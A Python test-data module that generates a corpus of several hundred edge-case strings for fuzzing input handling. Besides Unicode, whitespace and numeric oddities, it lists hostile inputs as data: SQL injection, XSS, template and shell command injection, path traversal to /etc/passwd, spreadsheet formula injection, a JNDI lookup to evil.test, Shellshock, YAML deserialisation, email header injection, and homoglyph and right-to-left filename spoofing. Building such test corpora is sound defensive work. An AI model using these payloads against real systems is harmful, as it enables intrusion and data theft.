"""Strings that break software: at least five hundred, of every kind, made here.

No list was copied: each kind is written out or generated from what it is about.
"""

import unicodedata
from collections.abc import Iterator

NUL = "\x00"
LONE = ["\ud800", "\udfff", "a\udc00b", "\udbff\ud800"]

_WORDS = [
    "undefined", "undef", "null", "NULL", "(null)", "nil", "NIL", "None", "true", "false", "True", "NaN", "-NaN", "Infinity",
    "-Infinity", "INF", "1.#INF", "NA", "N/A", "void", "this", "constructor", "__proto__", "prototype", "hasOwnProperty",
    "toString", "then", "\\", "\\\\", "[object Object]", "CON", "PRN", "AUX", "NUL", "COM1", "LPT9", "con.txt", "~", ".", "..",
]  # fmt: skip
_NUMBERS = [
    "0", "-0", "00", "+0", "1", "1.00", "$1.00", "1/2", "1E2", "1E+02", "-1.00", "1/0", "0/0", "0.0", "0,0", "--1", "-.", ",",
    "0x0", "0xffffffff", "0b1", "0o7", "0777", "123456789012345678901234567890", "9223372036854775808",
    "-9223372036854775809", "1e308", "1e309", "-1e309", "4.9e-324", "0.1", "1,000.00", "1 000.00", "1'000.00", "1.000,00",
    "1_000", "٠١٢٣", "１２３", "½", "¹²³", "①②③", "Ⅻ", "二", "𝟙𝟚𝟛", "2026-02-30", "1e1000000", "1970-01-01T00:00:00Z",
]  # fmt: skip
_SQL = [
    "'", '"', "''", "';", "1;DROP TABLE inbox_email", "1'; DROP TABLE inbox_email-- 1", "' OR 1=1 -- 1", "' OR '1'='1",
    "') OR ('1'='1", "%", "_", "%_%", "\\'", "\\\"", "$$", "$1", ":x", "?", "@@version", "1 UNION SELECT 1", "'; SELECT pg_sleep(9)--",
    "/* */", "--", "#", "E'\\x00'", "U&'\\0000'", "\\x00", "COPY t FROM PROGRAM 'id'", "{1,2}", "[1,2)", "(1,2)", "\\N", "\\.",
]  # fmt: skip
_HTML = [
    "<", ">", "&", "&lt;", "&#0;", "&#x1F600;", "<b>bold", "</b>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "javascript:alert(1)", "<!--", "-->",
    "<![CDATA[", "]]>", "<?xml version='1.0'?>", "<!DOCTYPE html>", "<iframe src=//evil.test>", "<a href=\"\x09javascript:x\">",
    "<style>@import'//evil.test'</style>", "<math><mi//xlink:href=x>", "</textarea><script>1</script>", "<base href=//evil.test/>",
    "<form action=//evil.test>", "<details open ontoggle=1>", "<template><script>1</script></template>", "\u003cscript\u003e",
]  # fmt: skip
_TEMPLATES = [
    "{{ 7*7 }}", "{% load x %}", "{% debug %}", "{{ settings.SECRET_KEY }}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{=7}}",
    "{0}", "{0.__class__}", "{x!r:>99}", "{", "}", "{{", "}}", "%s", "%d", "%n", "%x%x%x%x", "%1$s", "%(x)s", "%%", "%s%s%s%s%s%s",
    "$HOME", "${HOME}", "$(id)", "`id`", "|id", ";id", "&& id", "\nid", "> /tmp/x", "*", "~root", "../../etc/passwd",
    "..\\..\\win.ini", "file:///etc/passwd", "/dev/null", "C:\\con\\con", "\\\\host\\share", "=1+1", "+1+1", "-1+1", "@SUM(1)",
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.test\")", "\t=1+1", "ldap://evil.test/a", "${jndi:ldap://evil.test/a}",
    "() { :; }; id", "*)(uid=*))(|(uid=*", "!!python/object:os.system", "---\n- a", "a: b", "[]", "{\"a\":1}", "\"", "null\n", "\\u0041",
]  # fmt: skip
_UNICODE = [
    "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "œ∑´®†¥¨ˆøπ", "¡™£¢∞§¶•ªº", "ÅÍÎÏ˝ÓÔÒÚÆ☃", "ЁЂЃЄЅІЇ", "田中さんにあげて下さい", "パーティーへ行かないか",
    "和製漢語", "部落格", "사회과학원 어학연구소", "찦차를 타고 온 펲시맨과 쑛다리 똠방각하", "울란바토르", "𠜎𠜱𠝹𠱓𠱸𠲖𠳏", "Ⱥ", "ⱦ", "ǅ", "ﬀ", "ß", "ẞ", "ſ", "İ", "ı",
    "i̇", "K", "Å", "ὈΔΥΣΣΕΎΣ", "ΣΑΣ", "שלום", "مرحبا بالعالم", "ﷺ", "ﷲ", "בְּרֵאשִׁית", "नमस्ते", "ความจริง", "ខ្មែរ", "ไทย", "བོད", "ᠮᠣᠩᠭᠣᠯ", "ያማረ", "ქართული", "Հայերեն",
    "تست مختلط mixed text عربي", "a\u0301", "á", "e\u0301\u0301\u0301", "\u1112\u1161\u11ab", "한", "ﾊﾝｶｸ", "ｆｕｌｌ", "𝒽𝑒𝓁𝓁𝑜", "🅱🆘", "ᴀʙᴄ", "uʍop ǝpısdn", "ａ＠ｂ．ｃ",
    "аdmin", "раypal", "ｒｏｏｔ", "gооgle", "１２７．０．０．１",
]  # fmt: skip
_EMOJI = [
    "😍", "👩🏽", "👨‍👩‍👧‍👦", "👨‍🦰", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "🇩🇪", "🇩🇪🇰", "🇦", "❤️", "❤", "☃︎", "☃️", "1️⃣", "#️⃣", "👁️‍🗨️", "🏳️‍🌈", "🧑‍🤝‍🧑", "✋🏿 💪🏿 👐🏿", "🚾 🆒 🆓",
    "🐵 🙈 🙉 🙊", "🫠", "🪿", "😀" * 200, "(╯°□°）╯︵ ┻━┻)", "¯\\_(ツ)_/¯", "ಠ_ಠ", "٩(-̮̮̃-̃)۶", "♥ღ♥",
]  # fmt: skip
_NAMES = [
    "O'Brien", "Jean-Luc", "van 't Hoff", "Null", "Test", "Åsa Öberg", "Nguyễn", "Müller, Jr.", "Smith; DROP", "x" * 200, "A B", "ß",
    "Ms. \"Quote\" Doe", "Doe, Jane", "a@b", "<a@b.test>", "a,b;c:d", "(comment)", "name <evil@evil.test>", "Re: Fwd: Aw:",
    "=?utf-8?Q?x?=", "=?utf-8?B?4pyT?=", "=?x?=", "Subject: x", "To: a@b.test", "Bcc: evil@evil.test", "boundary=--x", "--x--", ".",
    "From here on", ">From x", "begin 644 x", "\\r\\nBcc: x", "%0d%0aBcc: x", "%00", "%u0000", "\\0", "+", "a+b", "a b  c", "a  b",
]  # fmt: skip
_SPACES = [
    "", " ", "  ", "\t", "\n", "\r", "\r\n", " a", "a ", " a ", "a\tb", "a\nb", "a\r\nb", "a\rb", "\u00a0", "\u00a0a", "\u2003", "\u3000",
    "\u3000名前\u3000", "\u1680", "\u180e", "\u200b", "a\u200bb", "\u200c", "\u200d", "\u2060", "\ufeff", "\ufeffa", "a\ufeff", "\u00ad",
    "\u034f", "\u115f", "\u3164", "\uffa0", "\u2800", "\u2028", "\u2029", "a\u2028b", "\x0b", "\x0c", "\x85", "\x1c", "\x1f",
]  # fmt: skip


def _controls() -> Iterator[str]:
    """Every control alone inside a word, and the formatting characters."""
    for code in [*range(1, 32), *range(0x7F, 0xA0)]:
        yield f"a{chr(code)}b"
    found = [chr(code) for code in range(0x20000) if unicodedata.category(chr(code)) == "Cf"]
    for letter in found[::6]:
        yield f"a{letter}b"


def _directions() -> Iterator[str]:
    for mark in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069":
        yield f"invoice{mark}fdp.exe"
    yield "\u202etest\u202e"
    yield "\u2066test\u2067\u2069"
    yield "הָיְתָה\u202atest\u202cالصفحات"


def _zalgo() -> Iterator[str]:
    marks = [chr(code) for code in range(0x300, 0x370)]
    yield "".join(letter + "".join(marks[place * 7 : place * 7 + 20]) for place, letter in enumerate("ZALGO"))
    yield "a" + "".join(marks)
    yield "".join(marks)
    yield "x" + "\u0489" * 500


def _unassigned() -> Iterator[str]:
    """Private, unassigned and non-characters, and the edges of planes."""
    for code in (0xE000, 0xF8FF, 0xFDD0, 0xFDEF, 0xFFFD, 0xFFFE, 0xFFFF, 0x10000, 0x1FFFE, 0x1FFFF, 0xE0001, 0xF0000, 0x10FFFD,
                 0x10FFFE, 0x10FFFF, 0xD7FF, 0x0378, 0x2FE0):  # fmt: skip
        yield f"a{chr(code)}b"


def _long() -> Iterator[str]:
    for size in (80, 200, 201, 256, 501, 2001, 70_000):
        yield "x" * size
    yield "é" * 10_000
    yield "界" * 5_000
    yield "word " * 2_000
    yield "\n" * 1_000
    yield "(" * 2_000
    yield "[" * 2_000
    yield "{" * 2_000
    yield "a" * 998 + "\n" + "b" * 998
    yield "'" * 1_000
    yield "\\" * 1_000


def strings() -> list[str]:
    """All of them that JSON can carry, each once, in a fixed order."""
    kinds = [
        _WORDS, _NUMBERS, _SQL, _HTML, _TEMPLATES, _UNICODE, _EMOJI, _NAMES, _SPACES, _controls(), _directions(), _zalgo(),
        _unassigned(), _long(),
    ]  # fmt: skip
    return list(dict.fromkeys(text for kind in kinds for text in kind))


def unstorable() -> list[str]:
    """JSON strings, escaped, that no text column holds: NUL and halves of pairs."""
    return ["\\u0000", "a\\u0000b", "\\u0000\\u0000", *(
        "".join(f"\\u{ord(c):04x}" if not c.isascii() or c == NUL else c for c in text) for text in LONE
    ), "\\ud83d", "\\ude00\\ud83d", "x\\udfff"]  # fmt: skip
